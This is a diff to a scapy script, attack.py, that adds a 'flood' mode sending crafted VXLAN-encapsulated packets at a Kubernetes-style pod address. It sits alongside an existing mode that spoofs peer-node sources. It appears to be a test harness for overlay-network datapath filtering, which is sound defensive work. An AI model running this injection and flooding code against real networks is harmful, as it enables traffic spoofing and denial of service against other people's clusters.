@@ -7,6 +7,9 @@ attack.py send IFACE NODE_MAC NODE_IP PEER_IP POD_IP PEER_POD_IP VNI PORT COUNT
     address the attacker spoofs; PEER_POD_IP a pod of that node. Each inner packet is UDP to
     port 7777 carrying its case name, then " CONTROL" cases that a datapath must admit (a
     spoofed outer source cannot be told apart on the wire), so the listener is shown working.
+attack.py flood IFACE NODE_MAC NODE_IP POD_IP PORT COUNT
+    Sends COUNT VXLAN packets from the attacker's own (unknown) address at POD_IP, as fast
+    as scapy can, and prints how long it took.
 attack.py listen PORT OUT SECONDS
     Writes the payload of every UDP datagram received on PORT to OUT, one per line.
 """
@@ -63,6 +66,30 @@ def send(iface, node_mac, node_ip, peer_ip, pod_ip, peer_pod_ip, vni, port, coun
         print(f"sent {count} {reason}: {pkt[IP].payload.summary()}")
 
 
+def flood(iface, node_mac, node_ip, pod_ip, port, count):
+    from scapy.all import IP, UDP, Ether, Raw, conf, sendp
+    from scapy.layers.vxlan import VXLAN
+
+    me = open(f"/sys/class/net/{iface}/address").read().strip()
+    pkt = (
+        Ether(dst=node_mac, src=me)
+        / IP(src="192.168.1.66", dst=node_ip)
+        / UDP(sport=50001, dport=int(port), chksum=0)
+        / VXLAN(vni=4096, flags=0x08)
+        / Ether(dst="0e:00:00:00:00:01", src="0e:00:00:00:00:02")
+        / IP(src="10.244.0.2", dst=pod_ip)
+        / UDP(sport=40001, dport=7777)
+        / Raw(b"flood")
+    )
+    raw = bytes(pkt)
+    start = time.time()
+    s = conf.L2socket(iface=iface)
+    for _ in range(int(count)):
+        s.send(raw)
+    s.close()
+    print(f"sent {count} in {time.time() - start:.2f} s")
+
+
 def listen(port, out, seconds):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.bind(("0.0.0.0", int(port)))
@@ -81,5 +108,7 @@ def listen(port, out, seconds):
 if __name__ == "__main__":
     if sys.argv[1] == "send":
         send(*sys.argv[2:11])
+    elif sys.argv[1] == "flood":
+        flood(*sys.argv[2:8])
     else:
         listen(*sys.argv[2:5])
